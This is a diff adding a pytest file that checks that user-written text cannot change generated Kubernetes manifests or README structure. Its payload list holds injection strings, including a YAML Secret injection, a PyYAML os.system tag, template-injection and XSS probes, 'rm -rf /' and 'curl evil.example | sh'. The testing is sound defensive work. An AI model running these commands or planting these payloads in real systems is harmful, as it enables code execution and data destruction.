@@ -1,0 +1,157 @@
+"""Text that people write stays text: it changes no manifest and no structure of the README."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from neuralnav.deployment.checks import check_manifests
+from neuralnav.deployment.manifests import build_manifests
+from neuralnav.deployment.markdown import MAX_QUOTED_CHARACTERS, as_code, as_text, one_line
+from neuralnav.errors import InvalidInputError
+from neuralnav.models.deployment import ManifestSet
+
+Make = Callable[..., Any]
+
+PAYLOADS = (
+    "x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: stolen}",
+    'a"\n  hostNetwork: true\n#',
+    "!!python/object/apply:os.system ['id']",
+    "&anchor *alias <<: {a: b} [1, 2] {k: v} %TAG ! | > @ `",
+    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# c #}",
+    "<script>alert(1)</script><img src=x onerror=alert(1)> <!-- -->",
+    "# heading\n\n- list\n1. one\n> quote\n```sh\nrm -rf /\n```\n| a | b |\n|---|---|",
+    "[click](javascript:alert(1)) ![i](http://evil.example/p.png) <http://evil.example> www.evil.example a@b.example",
+    "**bold** _it_ ~~no~~ `code` $x^2$ :warning: &lt;b&gt; &#60;b&#62; \\` \\",
+    "--trust-remote-code --api-key=x; curl evil.example | sh",
+    "\u202eevil\u2066\u200b\ufeff\x00\x1b[31m\x07\u2028new line",
+    "1. first", "- first", "+", "===", "---", "2024) x", "=", "    indented code", "\ttab", "[ref]: /url", "<b",
+    "token hf_abcdefghijklmnopqrstuvwxyz0123456789",
+)  # fmt: skip
+
+HOSTILE = st.text(
+    alphabet=st.one_of(st.sampled_from("\n\r\t -+*_`~#>|<&;:!?@$%^(){}[]\\/=\"'.,0aA1"), st.characters()),
+    max_size=120,
+)
+
+MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+@pytest.fixture(scope="module")
+def build(make_model: Make, make_gpu: Make, make_choice: Make, make_specification: Make) -> Make:
+    """Manifests in which every free text is the one given."""
+
+    def built(text: str) -> ManifestSet:
+        model, gpu = make_model(display_name=text, licence=text), make_gpu()
+        choice = make_choice(model, gpu, reason=text, notes=(text,), id="plan-1")
+        price = choice.cost.model_copy(update={"instance": text, "reference": text})
+        specification = make_specification(
+            description=text, constrained_region=text, reasons={"ttft_p95_ms": text}
+        ).model_copy(update={"assumed": (text,)})
+        return build_manifests(
+            choice.model_copy(update={"cost": price}),
+            model,
+            gpu,
+            specification=specification,
+            namespace="neuralnav",
+        )
+
+    return built
+
+
+def texts(manifests: ManifestSet, suffix: str) -> list[str]:
+    return [file.text for file in manifests.files if file.path.endswith(suffix)]
+
+
+def yaml_but_the_digest(manifests: ManifestSet) -> list[str]:
+    """The manifests; the plan's digest, which also covers the name of the price table, is only of its form."""
+    return [
+        re.sub(r"(?m)^( +neuralnav.io/plan-sha256): [0-9a-f']{64,66}$", r"\1", text)
+        for text in texts(manifests, ".yaml")
+    ]
+
+
+def structure(markdown: str) -> list[tuple[str, str]]:
+    """Every mark of the document but its plain text; code spans count as text."""
+    found = []
+    for token in MARKDOWN.parse(markdown):
+        found.append((token.type, token.tag))
+        inside = [child for child in token.children or () if child.type not in ("text", "code_inline")]
+        found += [(child.type, child.tag) for child in inside]
+    return found
+
+
+def shown(markdown: str) -> str:
+    """What a reader sees of one paragraph."""
+    tokens = MARKDOWN.parse(markdown)
+    assert [token.type for token in tokens] == ["paragraph_open", "inline", "paragraph_close"], tokens
+    children = tokens[1].children or []
+    assert {child.type for child in children} <= {"text", "code_inline"}
+    return "".join(child.content for child in children)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_payloads_change_no_manifest_and_no_structure(build: Make, payload: str) -> None:
+    harmless, hostile = build("plain words"), build(payload)
+    check_manifests(hostile)
+    assert yaml_but_the_digest(hostile) == yaml_but_the_digest(harmless)
+    assert structure(texts(hostile, ".md")[0]) == structure(texts(harmless, ".md")[0])
+
+
+@settings(max_examples=40, deadline=None)
+@given(text=HOSTILE.filter(lambda text: one_line(text) != ""))
+def test_no_text_changes_a_manifest_or_the_structure_of_the_readme(build: Make, text: str) -> None:
+    harmless = build("plain words")
+    try:
+        hostile = build(text)
+    except ValueError:
+        return
+    check_manifests(hostile)
+    assert yaml_but_the_digest(hostile) == yaml_but_the_digest(harmless)
+    assert structure(texts(hostile, ".md")[0]) == structure(texts(harmless, ".md")[0])
+
+
+@settings(max_examples=300, deadline=None)
+@given(HOSTILE)
+def test_escaped_text_is_shown_as_it_was_written(text: str) -> None:
+    line = one_line(text)
+    if line:
+        assert shown(str(as_text(text))) == line
+        assert shown(str(as_code(text))) == line
+
+
+def test_a_quoted_request_is_not_a_link_a_formula_or_a_directive() -> None:
+    escaped = str(as_text("see www.evil.example or https://evil.example, a@b.example, $x$ and p95:value"))
+    for part in ("www.", "://", "@", " $x$", "p95:value"):
+        assert part not in escaped
+
+
+def test_a_long_request_is_cut() -> None:
+    assert len(shown(str(as_text("word " * 4000)))) <= MAX_QUOTED_CHARACTERS + 2
+
+
+def test_a_token_in_a_request_is_not_written(build: Make) -> None:
+    readme = texts(build("use hf_abcdefghijklmnopqrstuvwxyz0123456789"), ".md")[0]
+    assert "hf_abcdef" not in readme
+    assert "removed" in readme
+
+
+def test_a_plan_id_that_is_not_plain_text_is_refused(
+    make_model: Make, make_gpu: Make, make_choice: Make, make_specification: Make
+) -> None:
+    model, gpu = make_model(), make_gpu()
+    manifests = build_manifests(
+        make_choice(model, gpu, id="p\nkind: Secret"),
+        model,
+        gpu,
+        specification=make_specification(),
+        namespace="neuralnav",
+    )
+    with pytest.raises(InvalidInputError, match="plan-id"):
+        check_manifests(manifests)
